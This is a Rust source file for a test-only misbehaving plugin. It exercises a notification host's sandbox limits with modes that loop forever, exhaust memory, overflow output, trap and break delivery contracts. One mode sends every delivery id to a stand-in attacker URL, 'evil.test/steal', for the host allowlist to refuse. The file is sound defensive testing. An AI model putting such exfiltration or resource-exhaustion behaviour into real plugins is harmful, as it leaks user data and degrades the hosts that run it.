//! Test-only Herald plugin that misbehaves on purpose, for the host's sandbox
//! tests. Never deploy it.
//!
//! `describe`: name `hostile`, channel `webhook`, formats `[text]`,
//! max-batch 10, hosts `["allowed.test", "127.0.0.1"]`, billing unit `request`.
//!
//! The account configuration is `{"mode": "<mode>", "url": "<optional target>"}`
//! (`url` defaults to `http://allowed.test/ok`); `validate-account`
//! rejects unknown modes (`bad-config` naming `mode`). `build` behaves by mode:
//!
//! | mode | `build` does |
//! | --- | --- |
//! | `ok` | behaves: one `POST <url>` per delivery, body `{"id": "<delivery id>"}` |
//! | `loop` | spins forever (a `black_box` counter, so it is not optimized away): needs the deadline |
//! | `grow` | allocates 1 MiB chunks, writes every page of each and keeps them, until memory runs out: needs the memory cap |
//! | `huge` | returns 12 outbounds of 2 MiB bodies each (24 MiB in total) to `http://allowed.test/huge`: needs the output cap. The first outbound carries every delivery id, the 11 others carry none |
//! | `badhost` | one `POST http://evil.test/steal` carrying every delivery: the host allowlist must refuse it |
//! | `panic` | `panic!("boom")`: a trap |
//! | `print` | `println!`: calls WASI stdout, which the host does not provide (a trap) |
//! | `clock` | reads `SystemTime::now()`: calls the WASI clock (a trap) |
//! | `random` | creates a `std::collections::HashMap` (its `RandomState` asks WASI for `insecure-seed`, which the host provides), then behaves like `ok` |
//! | `duplicate` | like `ok`, plus a second outbound for the first delivery id (contract violation) |
//! | `missing` | like `ok`, without an outbound for the last delivery (contract violation) |
//! | `invalid` | returns `invalid-delivery("hostile: invalid on purpose")` |
//! | `picky` | like `ok`, but the whole `build` fails with `invalid-delivery` when any recipient starts with `bad` (as a provider SDK rejecting one malformed address does) |
//!
//! `interpret` always answers `sent` for every delivery (provider id = delivery
//! id); `parse-callback` is not supported.

use herald_plugin_sdk::types::*;
use herald_plugin_sdk::{Plugin, export_plugin, json, outcome};
use std::hint::black_box;

/// The plugin type exported to the host.
pub struct Hostile;

const SCHEMA: &str = r#"{
  "$schema": "https://json-schema.org/draft/2020-12/schema",
  "type": "object",
  "required": ["mode"],
  "properties": {
    "mode": {"enum": ["ok", "loop", "grow", "huge", "badhost", "panic", "print", "clock", "random", "duplicate", "missing", "invalid", "picky"]},
    "url": {"type": "string"}
  }
}"#;

#[derive(Clone, Copy, Debug, PartialEq)]
enum Mode {
    Ok,
    Loop,
    Grow,
    Huge,
    BadHost,
    Panic,
    Print,
    Clock,
    Random,
    Duplicate,
    Missing,
    Invalid,
    Picky,
}

fn mode(account: &str) -> Result<Mode, PluginError> {
    let v: json::Value = json::parse_account(account)?;
    let m = v.get("mode").and_then(|m| m.as_str()).unwrap_or_default();
    Ok(match m {
        "ok" => Mode::Ok,
        "loop" => Mode::Loop,
        "grow" => Mode::Grow,
        "huge" => Mode::Huge,
        "badhost" => Mode::BadHost,
        "panic" => Mode::Panic,
        "print" => Mode::Print,
        "clock" => Mode::Clock,
        "random" => Mode::Random,
        "duplicate" => Mode::Duplicate,
        "missing" => Mode::Missing,
        "invalid" => Mode::Invalid,
        "picky" => Mode::Picky,
        other => {
            return Err(PluginError::BadConfig(format!("mode: unknown mode {other:?}")));
        }
    })
}

fn post(url: &str, ids: Vec<String>, body: Vec<u8>) -> Outbound {
    Outbound {
        deliveries: ids,
        request: Request::Http(HttpRequest {
            method: "POST".into(),
            url: url.into(),
            headers: vec![("Content-Type".into(), "application/json".into())],
            body,
        }),
    }
}

fn target(account: &str) -> String {
    json::parse_account::<json::Value>(account)
        .ok()
        .and_then(|v| v.get("url").and_then(|u| u.as_str()).map(str::to_string))
        .unwrap_or_else(|| "http://allowed.test/ok".to_string())
}

fn ok_outbounds(account: &str, batch: &[Delivery]) -> Vec<Outbound> {
    let url = target(account);
    batch
        .iter()
        .map(|d| {
            let body = json::json!({ "id": d.id }).to_string().into_bytes();
            post(&url, vec![d.id.clone()], body)
        })
        .collect()
}

fn spin() -> ! {
    let mut counter: u64 = 0;
    loop {
        counter = black_box(counter.wrapping_add(1));
    }
}

fn grow() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        for i in (0..chunk.len()).step_by(4096) {
            chunk[i] = (hoard.len() as u8).wrapping_add(1);
        }
        hoard.push(black_box(chunk));
    }
}

impl Plugin for Hostile {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            channel: "webhook".into(),
            formats: vec![ContentFormat::Text],
            max_batch: 10,
            account_schema: SCHEMA.into(),
            secret_fields: vec![],
            hosts: vec!["allowed.test".into(), "127.0.0.1".into()],
            billing_unit: "request".into(),
        }
    }

    fn validate_account(account: &str) -> Result<(), PluginError> {
        mode(account).map(|_| ())
    }

    fn build(ctx: CallContext, account: &str, batch: Vec<Delivery>) -> Result<Vec<Outbound>, PluginError> {
        let ids: Vec<String> = batch.iter().map(|d| d.id.clone()).collect();
        match mode(account)? {
            Mode::Ok => Ok(ok_outbounds(account, &batch)),
            Mode::Loop => spin(),
            Mode::Grow => grow(),
            Mode::Huge => {
                let body = vec![b'x'; 2 << 20];
                let mut out = vec![post("http://allowed.test/huge", ids, body.clone())];
                for _ in 1..12 {
                    out.push(post("http://allowed.test/huge", vec![], body.clone()));
                }
                Ok(out)
            }
            Mode::BadHost => Ok(vec![post("http://evil.test/steal", ids, b"{}".to_vec())]),
            Mode::Panic => panic!("boom"),
            Mode::Print => {
                println!("hostile plugin printing at {}", ctx.now_ms);
                Ok(ok_outbounds(account, &batch))
            }
            Mode::Clock => {
                let now = std::time::SystemTime::now();
                black_box(now);
                Ok(ok_outbounds(account, &batch))
            }
            Mode::Random => {
                let mut map = std::collections::HashMap::new();
                map.insert(ctx.attempt, ctx.now_ms);
                black_box(map);
                Ok(ok_outbounds(account, &batch))
            }
            Mode::Duplicate => {
                let mut out = ok_outbounds(account, &batch);
                if let Some(first) = batch.first() {
                    out.push(post("http://allowed.test/ok", vec![first.id.clone()], b"{}".to_vec()));
                }
                Ok(out)
            }
            Mode::Missing => {
                let mut out = ok_outbounds(account, &batch);
                out.pop();
                Ok(out)
            }
            Mode::Invalid => Err(PluginError::InvalidDelivery("hostile: invalid on purpose".into())),
            Mode::Picky => match batch.iter().find(|d| d.recipient.starts_with("bad")) {
                Some(d) => Err(PluginError::InvalidDelivery(format!("recipient {}: hostile refuses addresses starting with \"bad\"", d.id))),
                None => Ok(ok_outbounds(account, &batch)),
            },
        }
    }

    fn interpret(_ctx: CallContext, _account: &str, deliveries: Vec<String>, _response: Response) -> Vec<Outcome> {
        outcome::for_all(&deliveries, |id| outcome::sent(id, "").with_provider_id(id))
    }
}

export_plugin!(Hostile);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn modes_parse() {
        assert_eq!(mode(r#"{"mode":"loop"}"#).unwrap(), Mode::Loop);
        assert!(matches!(mode(r#"{"mode":"x"}"#), Err(PluginError::BadConfig(m)) if m.starts_with("mode:")));
        assert!(matches!(mode("{}"), Err(PluginError::BadConfig(_))));
    }
}
